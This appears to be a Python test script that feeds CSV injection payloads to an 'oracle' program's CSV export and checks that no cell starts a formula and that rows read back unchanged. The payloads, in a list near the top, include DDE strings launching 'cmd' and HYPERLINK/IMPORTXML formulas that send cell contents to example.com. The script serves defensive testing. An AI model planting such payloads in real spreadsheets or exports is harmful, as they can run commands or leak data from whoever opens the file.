#!/usr/bin/env python3
"""Reads lists that the program writes with Python's csv module (RFC 4180), which knows nothing of the program.

    lists_csv.py ORACLE [COUNT] [SEED]

ORACLE is the path of the built `oracle` program. Known ways to smuggle a formula into a cell (OWASP, "CSV Injection":
cells that start with = + - @, tab or carriage return, also behind a separator, a quote or an apostrophe, and in
full-width form) and random text of signs that mean something in such a file. Not one cell may start with such a sign;
every cell must say what was written, give or take the apostrophe before it; and the program must read its own list back
to the same text. What the program itself takes off, blanks around a cell, is not put in.
"""

import argparse
import csv
import io
import json
import random
import subprocess
import sys

TRIGGERS = tuple("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
PAYLOADS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.com?x="&A1,"click")', "SUM(1;2)", "DDE(\"a\";\"b\")",
            "IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")", "2+5+cmd|' /C x'!A0", "@SUM(1+1)*cmd", "-2+3", "0"]
WRAPS = ["{}", "'{}", "''{}", '"{}', '",{}', ";{}", "x,{}", "x\n{}"]


def hard_cases():
    visible = [sign for sign in TRIGGERS if not sign.isspace() and sign != "\0"]
    for sign in visible:
        for payload in PAYLOADS:
            for wrap in WRAPS:
                yield wrap.format(sign + payload)


def random_text(dice):
    signs = "=+-@'\",;\n abcÉü😀\uff1d\uff20"
    return "".join(dice.choice(signs) for _ in range(dice.randint(1, 12))).strip() or "x"


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("oracle")
    parser.add_argument("count", nargs="?", type=int, default=2000)
    parser.add_argument("seed", nargs="?", type=int, default=20261125)
    arguments = parser.parse_args()
    dice = random.Random(arguments.seed)
    texts = [text.strip() for text in hard_cases()] + [random_text(dice) for _ in range(arguments.count)]
    rows = [[text, dice.choice(texts)] for text in texts]
    cases = [rows[at:at + 50] for at in range(0, len(rows), 50)]
    asked = "".join(json.dumps({"rows": case}) + "\n" for case in cases)
    run = subprocess.run([arguments.oracle, "cells"], input=asked, capture_output=True, text=True, check=True)
    answers = [json.loads(line) for line in run.stdout.splitlines()]
    assert len(answers) == len(cases), f"{len(answers)} answers to {len(cases)} cases"
    faults, cells = [], 0
    for case, answer in zip(cases, answers):
        assert "error" not in answer, answer
        text = answer["csv"]
        assert text.startswith("\ufeff"), "no byte order mark"
        read = list(csv.reader(io.StringIO(text[1:], newline="")))
        if read[0] != ["first", "second"] or len(read) != len(case) + 1:
            faults.append(f"{len(read)} rows for {len(case)}: {text!r}")
            continue
        if answer["rows"] != case:
            faults.append(f"read back as {answer['rows']!r}, written {case!r}")
        for written, got in zip(case, read[1:]):
            for meant, cell in zip(written, got):
                cells += 1
                if cell.startswith(TRIGGERS):
                    faults.append(f"starts a formula: {cell!r}")
                if cell not in (meant, "'" + meant):
                    faults.append(f"says {cell!r} for {meant!r}")
    print(f"{cells} cells read by Python's csv, {len(faults)} faults")
    for fault in faults[:10]:
        print(fault)
    sys.exit(1 if faults or cells < 1000 else 0)


if __name__ == "__main__":
    main()
